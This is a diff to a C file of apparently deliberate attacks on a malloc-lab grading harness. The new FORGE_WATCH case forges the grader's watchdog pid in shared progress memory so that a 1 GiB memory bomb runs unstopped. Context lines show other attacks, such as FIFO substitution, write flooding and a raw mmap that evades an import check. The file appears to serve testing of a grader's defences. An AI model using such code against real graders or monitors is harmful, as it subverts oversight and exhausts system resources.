@@ -110,6 +110,10 @@
    after setsid (they outlived the grade); and at exit every profile replaced by a FIFO (which hung
    the grader). */
 #define HOSTILE_COUNT 33
+/* MEMORY_BOMB, after writing pid 1 where the grader's watch read its agent's pid (the fifth word of
+   the progress words it maps, found by their name in /proc/self/maps), and then asleep for 5 s:
+   the watch took pid 1's memory for the agent's, and the bomb ran to its end unstopped. */
+#define FORGE_WATCH 34
 
 team_t team = {"attack", "Mallory", "mallory", "", ""};
 
@@ -197,6 +201,25 @@ __attribute__((destructor)) static void profiles_to_fifos(void) {
 }
 #endif
 
+#if ATTACK == FORGE_WATCH
+static void forge_watch(void) {
+    static char maps[1 << 16];
+    int fd = open("/proc/self/maps", O_RDONLY);
+    ssize_t n = 0, got;
+    while (fd >= 0 && n < (ssize_t)sizeof maps - 1 &&
+           (got = read(fd, maps + n, sizeof maps - 1 - (size_t)n)) > 0)
+        n += got;
+    maps[n] = '\0';
+    for (char *line = strtok(maps, "\n"); line != NULL; line = strtok(NULL, "\n")) {
+        unsigned long lo, hi;
+        char perms[8];
+        if (strstr(line, "mallocsim-progress") != NULL &&
+            sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && perms[1] == 'w')
+            ((volatile uint64_t *)lo)[4] = 1;
+    }
+}
+#endif
+
 #if ATTACK == CONSTRUCTOR_MEMORY
 static char *stash; /* metadata the heap would never show */
 __attribute__((constructor)) static void take_memory(void) {
@@ -255,12 +278,18 @@ static void attack(void) {
     memset(flood, 'x', sizeof flood - 1);
     for (;;)
         write_everywhere(flood);
-#elif ATTACK == MEMORY_BOMB
+#elif ATTACK == MEMORY_BOMB || ATTACK == FORGE_WATCH
+#if ATTACK == FORGE_WATCH
+    forge_watch();
+#endif
     size_t size = (size_t)1 << 30;
     char *bomb = mem_sbrk((intptr_t)size);
     if (bomb != (void *)-1)
         for (size_t i = 0; i < size; i += 4096)
             bomb[i] = 1;
+#if ATTACK == FORGE_WATCH
+    sleep(5);
+#endif
 #elif ATTACK == KERNEL_MEMORY
     size_t size = (size_t)1 << 30; /* raw mmap: past the import check */
     char *bomb = (char *)syscall(SYS_mmap, NULL, size, PROT_READ | PROT_WRITE,
